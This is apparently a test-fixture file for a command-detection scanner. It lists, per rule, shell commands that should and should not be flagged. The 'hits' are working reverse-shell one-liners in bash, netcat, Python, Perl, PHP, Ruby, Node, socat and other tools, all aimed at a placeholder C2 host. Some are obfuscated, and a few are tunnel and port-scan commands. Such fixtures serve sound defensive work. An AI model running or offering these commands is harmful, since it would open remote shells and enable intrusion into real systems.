import { C2, type Examples } from './command-examples.js';

export const REVERSE_SHELLS: Examples = {
  reverse_shell_dev_tcp: {
    hits: [
      `bash -i >& /dev/tcp/${C2}/4444 0>&1`,
      `exec 5<>/dev/tcp/${C2}/4444;cat <&5 | while read line; do $line 2>&5 >&5; done`,
      `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/${C2}/4444 0>&1'`,
      `b"a"sh -i >& /dev/t""cp/${C2}/4444 0>&1`,
      `echo ${Buffer.from(`bash -i >& /dev/tcp/${C2}/4444 0>&1`).toString('base64')} | base64 -d | bash`,
    ],
    misses: ['timeout 1 bash -c "</dev/tcp/db/5432" && echo up', 'bash -i'],
  },
  dev_tcp_connection: {
    hits: ['for p in {1..1024}; do (echo >/dev/tcp/10.20.3.1/$p) 2>/dev/null && echo $p; done'],
    misses: ['ls -l /dev/tty', 'man tcp'],
  },
  reverse_shell_netcat: {
    hits: [`nc -e /bin/sh ${C2} 4444`, `ncat ${C2} 4444 --exec /bin/bash`, `busybox nc ${C2} 4444 -e sh`],
    misses: ['nc -zv db.internal 5432', 'nc -l 8080 > shell.log'],
  },
  reverse_shell_pipe: {
    hits: [
      `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${C2} 4444 >/tmp/f`,
      `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${C2}:443 > /tmp/s`,
    ],
    misses: ['mkfifo /run/app/queue', 'nc -l 9000 | tee log'],
  },
  shell_fed_by_network_client: {
    hits: [`nc ${C2} 4444 | /bin/bash | nc ${C2} 4445`, `telnet ${C2} 4444 | sh`],
    misses: ['nc -l 9000 | gzip > dump.gz'],
  },
  reverse_shell_socat: {
    hits: [`socat TCP:${C2}:4444 EXEC:'/bin/bash',pty,stderr,setsid,sigint,sane`],
    misses: ['socat TCP-LISTEN:8080,fork TCP:backend:80'],
  },
  reverse_shell_socket_tool: {
    hits: [`socket -qvp '/bin/sh -i' ${C2} 4444`],
    misses: ['socket --help', 'ss -lntp'],
  },
  reverse_shell_python: {
    hits: [
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${C2}",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    ],
    misses: ["python3 -c 'import socket; print(socket.gethostname())'", 'python3 manage.py runserver'],
  },
  terminal_made_by_python: {
    hits: [`python -c 'import pty; pty.spawn("/bin/bash")'`],
    misses: ["python -c 'import pty'"],
  },
  reverse_shell_perl: {
    hits: [
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${C2}:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    ],
    misses: ["perl -ne 'print if /socket/' log"],
  },
  reverse_shell_php: {
    hits: [`php -r '$sock=fsockopen("${C2}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`],
    misses: ['php -r \'var_dump(fsockopen("db", 3306));\''],
  },
  reverse_shell_ruby: {
    hits: [`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("${C2}",4444))'`],
    misses: ['ruby -rsocket -e \'puts TCPSocket.new("db", 5432).peeraddr\''],
  },
  reverse_shell_lua: {
    hits: [
      `lua -e "require('socket');t=socket.tcp();t:connect('${C2}','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
    ],
    misses: ['lua -e "print(require(\'socket\')._VERSION)"'],
  },
  reverse_shell_awk: {
    hits: [
      `awk 'BEGIN {s = "/inet/tcp/0/${C2}/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; } while(c) }}'`,
    ],
    misses: ["awk '/inet/ {print $2}' <(ifconfig)"],
  },
  reverse_shell_node: {
    hits: [
      `node -e 'sh=require("child_process").spawn("/bin/sh");require("net").connect(4444,"${C2}",function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})'`,
    ],
    misses: [`node -e 'require("net").connect(5432,"db").on("connect",()=>process.exit())'`],
  },
  reverse_shell_java: {
    hits: [
      `jrunscript -e 'var p=new java.lang.ProcessBuilder("/bin/sh").start();var s=new java.net.Socket("${C2}",4444);'`,
    ],
    misses: ['jrunscript -e \'print(new java.net.Socket("db", 5432))\''],
  },
  reverse_shell_go: {
    hits: [
      `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","${C2}:4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Run()}' > /tmp/t.go`,
    ],
    misses: ['go build ./cmd/server'],
  },
  reverse_shell_other_language: {
    hits: [
      `zsh -c 'zmodload zsh/net/tcp && ztcp ${C2} 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
      `tclsh <<< 'set s [socket ${C2} 4444];while 1 {gets $s c;set e "exec $c";eval $e}'`,
    ],
    misses: ["zsh -c 'zmodload zsh/datetime'"],
  },
  remote_access_tunnel: {
    hits: ['ngrok tcp 22', `chisel client ${C2}:8080 R:socks`, 'code tunnel --name web'],
    misses: ['code .', 'ngrok --version'],
  },
  ssh_reverse_tunnel: {
    hits: [`ssh -fN -R 2222:localhost:22 x@${C2}`],
    misses: ['ssh -L 5432:db:5432 bastion', 'ssh host ls -R /srv'],
  },
};
